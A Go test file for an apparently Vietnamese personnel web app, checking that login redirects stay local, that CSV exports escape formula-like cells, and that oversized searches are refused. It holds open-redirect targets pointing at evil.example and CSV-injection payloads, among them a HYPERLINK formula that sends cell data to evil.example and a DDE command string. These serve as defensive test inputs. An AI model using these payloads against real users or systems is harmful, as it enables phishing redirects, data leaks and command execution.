package web_test

import (
	"encoding/csv"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"canbo"
	"canbo/sqlstore"
	"canbo/sqlstore/sqltest"
)

// TestRedirectTargetsStayLocal: login's next= and /lang's back= never send the browser to
// another site, however the target is spelt (a tab the browser strips, encoded slashes, …).
func TestRedirectTargetsStayLocal(t *testing.T) {
	f := newFixture(t, sqltest.MustOpen(t, sqlstore.SQLite))
	f.user("bn", canbo.RoleOfficer, []int64{f.w1})
	for _, next := range []string{"/\t/evil.example", "/%09/evil.example", "/\n/evil.example", "/%5C/evil.example", "/%2F/evil.example", "https://evil.example"} {
		res := post(t, browserClient(t), f.srv.URL+"/login", "", url.Values{"username": {"bn"}, "password": {"mật khẩu dài"}, "next": {next}})
		if loc := res.Header.Get("Location"); res.StatusCode != 303 || loc != "/" {
			t.Errorf("login next=%q: %d → %q, want /", next, res.StatusCode, loc)
		}
		res = post(t, browserClient(t), f.srv.URL+"/lang", "", url.Values{"lang": {"en"}, "back": {next}})
		if loc := res.Header.Get("Location"); loc != "/" {
			t.Errorf("/lang back=%q → %q, want /", next, loc)
		}
		_, body, _ := get(t, browserClient(t), f.srv.URL+"/login?next="+url.QueryEscape(next))
		if !strings.Contains(body, `name="next" value="/"`) {
			t.Errorf("login page keeps next=%q", next)
		}
	}
	res := post(t, browserClient(t), f.srv.URL+"/login", "", url.Values{"username": {"bn"}, "password": {"mật khẩu dài"}, "next": {"/people?q=a%20b"}})
	if loc := res.Header.Get("Location"); loc != "/people?q=a%20b" {
		t.Errorf("a local next became %q", loc)
	}
}

// TestCSVExportsAreNotFormulas: a hostile login name in the audit CSV and a hostile person's
// name in the cleaning CSV come out as text (a leading single quote), never as a formula.
func TestCSVExportsAreNotFormulas(t *testing.T) {
	sqltest.Each(t, func(t *testing.T, db *sqlstore.DB) {
		f := newFixture(t, db)
		hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1"}
		for _, h := range hostile {
			post(t, browserClient(t), f.srv.URL+"/login", "", url.Values{"username": {h}, "password": {"sai"}})
		}
		req, _ := http.NewRequest("GET", f.srv.URL+"/admin/audit.csv?action=login.failed", nil)
		req.Header.Set("Authorization", "Bearer "+f.adminTok)
		rows := csvRows(t, req)
		names := map[string]bool{}
		for _, row := range rows[1:] {
			names[row[2]] = true
		}
		for _, h := range hostile {
			want := "'" + strings.ToLower(strings.TrimSpace(h))
			if !names[want] {
				t.Errorf("audit CSV: no cell %q among %v", want, names)
			}
		}
		// Two people alike enough to be a duplicate, one named like a formula.
		for _, given := range []string{"Hùng", "Hùngg"} {
			p := &canbo.Person{FamilyName: "=1+2", MiddleName: "Văn", GivenName: given, Sex: canbo.Male, BirthDate: "1965-09-02"}
			if err := db.CreatePerson(sys, p, &canbo.Post{UnitID: f.w1, Title: "@Chuyên viên", Primary: true, From: "2020-01-01"}, nil); err != nil {
				t.Fatal(err)
			}
		}
		req, _ = http.NewRequest("GET", f.srv.URL+"/cleaning.csv", nil)
		req.Header.Set("Authorization", "Bearer "+f.adminTok)
		rows = csvRows(t, req)
		if len(rows) < 2 {
			t.Fatalf("cleaning CSV: %q", rows)
		}
		for _, row := range rows[1:] {
			for _, cell := range row {
				if c := strings.TrimLeft(cell, " "); c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("cleaning CSV cell %q is a formula", cell)
				}
			}
			if row[5] != "'=1+2 Văn Hùng" && row[5] != "'=1+2 Văn Hùngg" {
				t.Errorf("cleaning CSV name cell %q", row[5])
			}
		}
	})
}

func csvRows(t *testing.T, req *http.Request) [][]string {
	t.Helper()
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	if res.StatusCode != 200 {
		t.Fatalf("%s: %d", req.URL, res.StatusCode)
	}
	rows, err := csv.NewReader(res.Body).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// TestSearchIsBounded: a search of many words or much text is refused at once with a 400
// naming the field (500 words used to work a second, then answer 500).
func TestSearchIsBounded(t *testing.T) {
	f := newFixture(t, sqltest.MustOpen(t, sqlstore.SQLite))
	many := strings.Repeat("nguyen ", 500)
	nine := "a b c d e f g h i"
	long := strings.Repeat("x", 201)
	for _, path := range []string{"/api/v1/people?q=", "/api/v1/units?hierarchy=territory&q=", "/org/search?h=territory&q="} {
		for _, q := range []string{many, nine, long, "a-b-c-d-e-f-g-h-i"} {
			start := time.Now()
			code, body := f.api(f.adminTok, "GET", path+url.QueryEscape(q), "", nil)
			if code != 400 || (strings.HasPrefix(path, "/api/") && !strings.Contains(body, `"field":"q"`)) || !strings.Contains(body, "tìm kiếm") {
				t.Errorf("%s%.20q…: %d %.200s", path, q, code, body)
			}
			if d := time.Since(start); d > 500*time.Millisecond {
				t.Errorf("%s: refused after %v", path, d)
			}
		}
		if code, body := f.api(f.adminTok, "GET", path+url.QueryEscape("Nguyễn Văn An 1965 Bến Nghé Quận Một"), "", nil); code != 200 {
			t.Errorf("%s with eight words: %d %.200s", path, code, body)
		}
	}
}
